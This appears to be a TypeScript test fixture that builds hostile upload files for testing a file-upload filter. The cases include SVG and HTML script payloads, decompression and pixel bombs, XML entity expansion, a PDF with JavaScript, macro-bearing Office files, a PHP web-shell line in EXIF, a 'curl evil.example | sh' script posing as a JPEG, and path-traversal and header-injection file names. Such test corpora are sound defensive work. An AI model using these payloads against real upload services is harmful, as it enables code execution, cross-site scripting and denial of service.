import { crc32, deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import { HOSTILE_OFFICE } from "./office";

/** A file that somebody might send, and what should become of it. */
export interface HostileFile {
  what: string;
  bytes: Buffer;
  name: string;
  /** Content type that its sender claims. */
  type: string;
  to: "picture" | "document";
  /** Content type under which it is kept; absent: it is refused. */
  taken?: string;
}

/** What hostile files carry; nothing that holds it may be kept of a picture. */
export const PAYLOAD = "<script>alert(document.domain)</script>";

const MB = 1024 * 1024;
const text = (words: string) => Buffer.from(words, "latin1");
const join = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === "string" ? text(part) : part)));
const u16 = (value: number) => Buffer.from([value & 255, value >> 8]);

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${PAYLOAD}</svg>`;
const HTML = `<!doctype html><html><body>${PAYLOAD}</body></html>`;

const plain = sharp({ create: { width: 12, height: 8, channels: 3, background: "#12545c" } });
const [png, jpeg, webp, gif, tiff, avif] = await Promise.all([
  plain.clone().png().toBuffer(),
  plain.clone().jpeg().toBuffer(),
  plain.clone().webp({ lossless: true }).toBuffer(),
  plain.clone().gif().toBuffer(),
  plain.clone().tiff().toBuffer(),
  plain.clone().avif().toBuffer(),
]);
const noise = await sharp({
  create: { width: 64, height: 64, channels: 3, background: "#000", noise: { type: "gaussian", mean: 128, sigma: 60 } },
})
  .png()
  .toBuffer();
const noisyGif = await sharp(noise).gif().toBuffer();
const many = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: "#fff" } });
const placed = await plain
  .clone()
  .jpeg()
  .withExif({
    IFD0: { ImageDescription: PAYLOAD, Artist: "<?php system($_GET['c']) ?>" },
    IFD3: { GPSLatitudeRef: "N", GPSLatitude: "19/1 4/1 0/1", GPSLongitudeRef: "E", GPSLongitude: "72/1 52/1 0/1" },
  })
  .toBuffer();

function chunk(kind: string, data: Buffer): Buffer {
  const said = join(kind, data);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(said));
  return join(length, said, sum);
}

function pngOf(width: number, height: number, pixels: Buffer, ...more: Buffer[]): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 8;
  const data = chunk("IDAT", deflateSync(pixels));
  return join(png.subarray(0, 8), chunk("IHDR", head), ...more, data, chunk("IEND", Buffer.alloc(0)));
}

const frame = Buffer.from("21f90401000000002c00000000010001008000000000ffffff0202440100", "hex");
const gifOf = (width: number, height: number, frames: number) =>
  join("GIF89a", u16(width), u16(height), "\0\0\0", ...Array<Buffer>(frames).fill(frame), ";");

function webpOf(width: number, height: number): Buffer {
  // A lossless picture whose head alone says how large it is.
  const bits = Buffer.alloc(4);
  bits.writeUInt32LE(((width - 1) | ((height - 1) << 14)) >>> 0);
  const data = join("\x2f", bits, Buffer.alloc(64));
  const size = Buffer.alloc(4);
  size.writeUInt32LE(data.length);
  const whole = Buffer.alloc(4);
  whole.writeUInt32LE(data.length + 12);
  return join("RIFF", whole, "WEBPVP8L", size, data);
}

const pdfOf = (catalogue: string) =>
  text(`%PDF-1.4\n1 0 obj<</Type/Catalog${catalogue}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`);
const pdf = pdfOf("");
const zip = (name: string) =>
  join("PK\x03\x04\x14\0\0\0\0\0", Buffer.alloc(12), u16(name.length), u16(0), name, PAYLOAD);
const box = (brand: string) => join("\0\0\0\x18ftyp", brand, "\0\0\0\0", "mif1", brand);

/** What is sent, under which name; by its ending goes what its sender claims it to be, and where it is sent. */
type Case = [what: string, bytes: Buffer, name?: string, more?: Partial<Pick<HostileFile, "type" | "to">>];

const TYPES: Readonly<Record<string, string>> = {
  ...{ svg: "image/svg+xml", jpg: "image/jpeg", gif: "image/gif", webp: "image/webp", tif: "image/tiff" },
  ...{ bmp: "image/bmp", heic: "image/heic", avif: "image/avif", xml: "text/xml", gz: "application/gzip" },
  ...{ pdf: "application/pdf", doc: "application/msword", docm: "application/msword" },
  ...{ docx: "application/octet-stream", xlsx: "application/octet-stream" },
};
const DOCUMENTS = ["pdf", "doc", "docm", "docx", "xlsx", "gz"];

const REFUSED: Case[] = [
  ["a drawing with a script", text(SVG), "a.svg"],
  ["a drawing that calls itself PNG", text(SVG)],
  ["a drawing with a byte order mark", join("\xef\xbb\xbf", SVG), "a.svg"],
  ["a drawing in UTF-16", Buffer.from(`\ufeff${SVG}`, "utf16le"), "a.svg"],
  ["a drawing as a document", text(SVG), "a.pdf"],
  ["a page as PNG", text(HTML)],
  ["a page that begins as a GIF", join("GIF89a=1;/*", HTML, "*/"), "a.gif"],
  ["a page after the head of a PNG", join(png.subarray(0, 16), HTML)],
  ["a page after the head of a PDF", join("%PDF-1.4\n", HTML), "a.pdf"],
  ["a large PNG by its head", pngOf(60_000, 60_000, Buffer.alloc(1000))],
  ["a large GIF by its frames", gifOf(5000, 5000, 40), "a.gif"],
  ["a large WebP by its head", webpOf(16_384, 16_384), "a.webp"],
  ["a tall PNG of 50 megapixels as a document", await many(100, 500_000).png().toBuffer(), "a.png", { to: "document" }],
  ["nothing", Buffer.alloc(0)],
  ["a picture without a name", png, ""],
  ["a PNG that breaks off", noise.subarray(0, 2000)],
  ["a GIF that breaks off", noisyGif.subarray(0, 900), "a.gif"],
  ["a PDF that breaks off", pdf.subarray(0, 30), "a.pdf"],
  ["a JPEG that claims to be PNG", jpeg],
  ["a PDF that claims to be a picture", pdf, "a.png", { to: "document" }],
  ["a PDF where a picture belongs", pdf, "a.pdf", { to: "picture" }],
  ["a bitmap", join("BM", Buffer.alloc(60, 1)), "a.bmp"],
  ["a TIFF", tiff, "a.tif"],
  ["a HEIC", join(box("heic"), Buffer.alloc(40)), "a.heic"],
  ["an AVIF", avif, "a.avif"],
  ["a program of Windows", join("MZ\x90\0\x03\0", Buffer.alloc(80))],
  ["a shell script", text("#!/bin/sh\ncurl evil.example | sh\n"), "a.jpg"],
  ["an office file with macros", zip("word/vbaProject.bin"), "a.docm"],
  ["an old office file", join("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", Buffer.alloc(600)), "a.doc"],
  ["an archive as a picture", zip("a.html")],
  ["an archive that grows", gzipSync(Buffer.alloc(20 * MB)), "a.gz"],
  ["entities that multiply", text('<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'), "a.xml"],
  ["a PDF with JavaScript", pdfOf("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "a.pdf"],
  ["a PDF with a page after it", join(pdf, HTML.repeat(40)), "a.pdf"],
  ["a picture of one byte too much", join(png, Buffer.alloc(10 * MB + 1 - png.length))],
  ["a document of one byte too much", join(pdf, Buffer.alloc(20 * MB + 1 - pdf.length)), "a.pdf"],
];

const OFFICE = Object.entries(HOSTILE_OFFICE).map(([what, [bytes, name = "a.docx"]]): Case => [what, bytes, name]);

const TAKEN: [mime: string, ...Case][] = [
  ["image/png", "a PNG with a page after it", join(png, HTML)],
  [
    "image/png",
    "a PNG with a page as its comment",
    pngOf(1, 1, Buffer.alloc(2), chunk("tEXt", text(`Comment\0${HTML}`))),
  ],
  [
    "image/png",
    "a PNG with a comment that grows",
    pngOf(1, 1, Buffer.alloc(2), chunk("zTXt", join("a\0\0", deflateSync(Buffer.alloc(50 * MB))))),
  ],
  ["image/png", "a PNG whose pixels grow", pngOf(10, 10, Buffer.alloc(50 * MB))],
  ["image/jpeg", "a JPEG with an archive after it", join(jpeg, zip("a.html")), "a.jpg"],
  ["image/jpeg", "a JPEG with a page, a script and a place in it", placed, "a.jpg"],
  ["image/gif", "a GIF with a Java archive after it", join(gif, zip("META-INF/MANIFEST.MF")), "a.gif"],
  ["image/webp", "a WebP with a page after it", join(webp, HTML), "a.webp"],
  ["image/png", "a name that leads elsewhere", png, "../../../etc/passwd.png"],
  ["image/png", "a name of Windows", png, "C:\\Windows\\system32\\x.png"],
  ["image/png", "a name with a NUL", png, "a.php\0.png"],
  ["image/png", "a name that turns its direction", png, "gpj.\u202Egnp.exe"],
  ["image/png", "a name of 300 letters", png, `${"a".repeat(300)}.png`],
  ["image/png", "a name of odd letters at its end", png, `${"a".repeat(99)}${"😀".repeat(9)}.png`],
  ["image/png", "a name of a device", png, "CON.png"],
  ["image/png", "a name with quotes and lines", png, 'a"\r\nSet-Cookie: x=1.png'],
  ["image/png", "a name that is a script", png, `${PAYLOAD}.png`],
  ["image/jpeg", "another ending", jpeg, "a.png", { type: "application/octet-stream" }],
];

const build = ([what, bytes, name = "a.png", more = {}]: Case): HostileFile => {
  const ending = name.split(".").at(-1) ?? "";
  const to = DOCUMENTS.includes(ending) ? "document" : "picture";
  return { what, bytes, name, type: TYPES[ending] ?? "image/png", to, ...more };
};

/** Files that somebody might send to do harm, or by mistake. */
export const HOSTILE_FILES: readonly HostileFile[] = [
  ...[...REFUSED, ...OFFICE].map(build),
  ...TAKEN.map(([taken, ...file]) => ({ ...build(file), taken })),
];
